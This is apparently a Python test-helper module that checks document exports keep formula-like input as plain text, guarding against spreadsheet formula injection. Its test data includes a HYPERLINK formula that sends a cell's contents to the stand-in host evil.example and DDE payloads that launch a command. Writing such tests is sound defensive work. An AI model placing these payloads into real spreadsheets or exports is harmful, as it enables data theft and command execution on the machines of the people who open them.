"""Formula-like text as an attacker types it, and the checks that an export wrote it as text (CWE-1236).

Each check opens the file the way its reader does (openpyxl, csv, python-docx, pypdf), never our own code."""

import csv
import io
import zipfile

from docx import Document
from openpyxl import load_workbook
from pypdf import PdfReader

# The issue's own example, and one text per character a spreadsheet reads as the start of a formula.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def xlsx_cells(content: bytes) -> list:
    """Every cell of every sheet of the workbook, after asserting that none holds a formula: no cell typed
    as one, and no <f> element in the sheets' XML (what Excel would evaluate)."""
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    return cells


def assert_kept_as_text(cells, text: str) -> None:
    """``text`` is in the workbook as a string cell marked quotePrefix (Excel's leading quote), unchanged."""
    holding = [cell for cell in cells if cell.value == text.replace("\r", "\n")]
    assert holding, f"{text!r} is not in the workbook"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in holding)


def csv_fields(text: str) -> list[str]:
    """Every field of the CSV, after asserting that none starts as a formula would."""
    fields = [field for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for field in row]
    assert [field for field in fields if field.startswith(STARTS)] == []
    return fields


def docx_texts(content: bytes) -> list[str]:
    """The paragraphs and table cells of the document, after asserting that it holds no field code (Word's
    formulas) and that none of them starts as a formula would when pasted into a spreadsheet."""
    document = Document(io.BytesIO(content))
    xml = document.element.xml
    assert "w:fldSimple" not in xml and "w:instrText" not in xml
    texts = [paragraph.text for paragraph in document.paragraphs]
    texts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert [text for text in texts if text.startswith(STARTS)] == []
    return texts


def pdf_lines(content: bytes) -> list[str]:
    """The lines of the PDF's text, after asserting that none starts as a formula would when copied."""
    lines = [line.strip("\u200b") for page in PdfReader(io.BytesIO(content)).pages
             for line in page.extract_text().splitlines()]
    assert [line for line in lines if line.startswith(STARTS)] == []
    return lines
